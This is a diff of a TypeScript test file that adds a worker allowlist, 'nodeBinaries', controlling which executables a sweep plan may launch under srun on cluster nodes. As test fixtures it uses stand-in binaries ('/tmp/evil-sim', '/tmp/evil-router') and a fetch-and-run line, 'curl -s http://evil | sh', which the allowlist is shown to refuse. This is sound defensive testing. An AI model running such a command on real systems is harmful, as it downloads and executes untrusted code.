@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { InputError } from '@infersweep/core';
-import { planSweep } from '@infersweep/topology';
+import { planSweep, type SimulatorOverride, type SweepPlan } from '@infersweep/topology';
 import { loadSweepConfig } from '../src/config-file';
 import {
   COMPLETING_PATIENCE_ENV,
@@ -42,6 +42,7 @@ const settings = (over: Partial<WorkerSettings> = {}): WorkerSettings => ({
   secretNames: ['HF_TOKEN'],
   secretsFiles: ['/etc/infersweep/h200.secrets'],
   aiperfBinaries: ['aiperf'],
+  nodeBinaries: ['llm-d-inference-sim', 'pd-sidecar'],
   resultsRoots: ['/shared/results'],
   trustRemoteCodeTokenizers: [],
   gpuHourPrices: {},
@@ -72,6 +73,13 @@ describe('worker settings (read once at worker start)', () => {
     expect(s.secretsFiles).toEqual([]);
     expect(s.resultsRoots).toEqual(['/data/infersweep']);
     expect(s.aiperfBinaries[0]).toBe('aiperf');
+    // on the nodes: the planner's vllm, the simulator and pd-sidecar on PATH, the vLLM CPU build of `npm run setup`
+    expect(s.nodeBinaries).toEqual([
+      'vllm',
+      'llm-d-inference-sim',
+      'pd-sidecar',
+      join(repoRoot, '.tools', 'vllm-venv', 'bin', 'vllm'),
+    ]);
     expect(s.trustRemoteCodeTokenizers).toEqual([]);
   });
 
@@ -82,6 +90,7 @@ describe('worker settings (read once at worker start)', () => {
       INFERSWEEP_WORKER_SECRETS: 'HF_TOKEN,WANDB_KEY',
       INFERSWEEP_WORKER_RESULTS_ROOTS: '/lustre/results/',
       INFERSWEEP_WORKER_TRUST_REMOTE_CODE_TOKENIZERS: '/models/kimi-k3/',
+      INFERSWEEP_WORKER_NODE_BINARIES: ' /opt/sim/bin/llm-d-inference-sim, vllm',
     });
     expect(Object.keys(s.clusters)).toEqual(['h200', 'local', 'local-copy']);
     expect(s.clusters['local-copy']).toEqual(s.clusters.local);
@@ -96,6 +105,7 @@ describe('worker settings (read once at worker start)', () => {
       secretNames: ['HF_TOKEN', 'WANDB_KEY'],
       resultsRoots: ['/lustre/results'],
       trustRemoteCodeTokenizers: ['/models/kimi-k3'],
+      nodeBinaries: ['/opt/sim/bin/llm-d-inference-sim', 'vllm'],
     });
   });
 
@@ -242,6 +252,99 @@ describe('a sweep input asks only what the worker allows', () => {
     expect(isUnder(join(root, 'link', 'sweep'), root)).toBe(false);
     expect(isUnder(`${root}-sibling/x`, root)).toBe(false);
     expect(isUnder('relative/x', root)).toBe(false);
+  });
+});
+
+describe("what a plan launches on the nodes is the worker's to allow (nodeBinaries)", () => {
+  /** The shipped `local` plan of `orientation`, its config edited first (as a user's config would be). */
+  const planWith = (orientation: string, edit: (o: SimulatorOverride) => void) => {
+    const loaded = loadSweepConfig({ clusters: ['local'], env: ENV });
+    const o = loaded.config.clusters.local!.engineOverride;
+    if (o?.kind !== 'simulator') throw new Error('the shipped local profile runs the simulator');
+    edit(o);
+    return planSweep(loaded.config, { orientation, cluster: 'local', source: loaded.source });
+  };
+  const refusalOf = (p: SweepPlan, s: WorkerSettings, env: NodeJS.ProcessEnv = {}): unknown => {
+    try {
+      assertAllowed(p, undefined, s, env);
+    } catch (e) {
+      return e;
+    }
+    return undefined;
+  };
+
+  it('a foreign engine binary (clusters.<c>.engineOverride.binary) is refused: field, value, where it runs, the setting', () => {
+    const p = planWith('latency', (o) => (o.binary = '/tmp/evil-sim'));
+    expect(refusals(p, undefined, settings())).toEqual([
+      {
+        field: 'plan.nodes[0].launchArgv[0]',
+        value: '/tmp/evil-sim',
+        setting: 'nodeBinaries',
+        why: 'launched under srun on node rank 0, planned from clusters.local.engineOverride.binary',
+      },
+    ]);
+    const err = refusalOf(p, settings());
+    expect(err).toBeInstanceOf(RefusedInputError);
+    expect(err).toBeInstanceOf(InputError); // non-retryable: the workflow fails the sweep at once
+    expect((err as Error).message).toContain(
+      'plan.nodes[0].launchArgv[0] = "/tmp/evil-sim" is not allowed by this worker (launched under srun on node rank 0, planned from clusters.local.engineOverride.binary): INFERSWEEP_WORKER_NODE_BINARIES allows "llm-d-inference-sim", "pd-sidecar"',
+    );
+    // a settings file names its key instead of the variable
+    expect((refusalOf(p, settings(), { INFERSWEEP_WORKER_SETTINGS: '/etc/w.json' }) as Error).message).toContain(
+      'nodeBinaries in /etc/w.json (INFERSWEEP_WORKER_SETTINGS) allows',
+    );
+    // listed by the worker: allowed
+    expect(refusals(p, undefined, settings({ nodeBinaries: ['/tmp/evil-sim'] }))).toEqual([]);
+  });
+
+  it("a foreign P/D router binary (engineOverride.pdRouter.binary) is refused; the simulator's stand-ins need no listing", () => {
+    const p = planWith('pd-1p1d', (o) => (o.pdRouter = { ...o.pdRouter!, binary: '/tmp/evil-router' }));
+    expect(refusals(p, undefined, settings())).toEqual([
+      {
+        field: 'plan.disaggregation.router.argv[0]',
+        value: '/tmp/evil-router',
+        setting: 'nodeBinaries',
+        why: 'launched under srun as the P/D router (llm-d-pd-sidecar) on node rank 2, planned from clusters.local.engineOverride.pdRouter.binary or orientations.pd-1p1d.disaggregated.router.binary',
+      },
+    ]);
+    // nodes 1 and 3 run stand-ins (bash with infersweep's own script): allowed without listing bash
+    expect(p.nodes.map((n) => n.launchArgv[0])).toEqual(['llm-d-inference-sim', 'bash', 'llm-d-inference-sim', 'bash']);
+    expect(refusals(p, undefined, settings({ nodeBinaries: ['llm-d-inference-sim', '/tmp/evil-router'] }))).toEqual([]);
+  });
+
+  it('a raw plan whose node runs bash with a script of its own is refused as bash; an empty launch as ""', () => {
+    const p = plan();
+    p.nodes[1]!.launchArgv = ['bash', '-c', 'curl -s http://evil | sh'];
+    expect(refusals(p, undefined, settings()).map((r) => [r.field, r.value, r.setting])).toEqual([
+      ['plan.nodes[1].launchArgv[0]', 'bash', 'nodeBinaries'],
+    ]);
+    p.nodes[1]!.launchArgv = [];
+    expect(refusals(p, undefined, settings()).map((r) => [r.field, r.value])).toEqual([
+      ['plan.nodes[1].launchArgv[0]', ''],
+    ]);
+  });
+
+  it('the defaults allow every launch of the shipped configs (local, h200, local-vllm, east/west): the local stack needs nothing set', () => {
+    const env = { ...ENV, INFERSWEEP_TOOLS: '/tools' };
+    const s = { ...settings(), nodeBinaries: loadWorkerSettings('local', env).nodeBinaries };
+    const shippedPlans = [
+      { config: undefined, clusters: ['local', 'h200'] },
+      { config: join(repoRoot, 'configs/tiny-moe-local-vllm.yaml'), clusters: ['local-vllm'] },
+      { config: join(repoRoot, 'configs/two-clusters-local.yaml'), clusters: ['east', 'west'] },
+    ].flatMap(({ config, clusters }) => {
+      const loaded = loadSweepConfig({ ...(config ? { config } : {}), clusters, env });
+      return clusters.flatMap((cluster) =>
+        Object.keys(loaded.config.orientations).map((orientation) =>
+          planSweep(loaded.config, { orientation, cluster, source: loaded.source }),
+        ),
+      );
+    });
+    expect(shippedPlans.length).toBeGreaterThanOrEqual(14);
+    const executables = new Set(shippedPlans.flatMap((p) => p.nodes.map((n) => n.launchArgv[0])));
+    expect(executables).toEqual(new Set(['vllm', 'llm-d-inference-sim', 'bash', '/tools/vllm-venv/bin/vllm']));
+    expect(shippedPlans.flatMap((p) => refusals(p, undefined, s).filter((r) => r.setting === 'nodeBinaries'))).toEqual(
+      [],
+    );
   });
 });
 
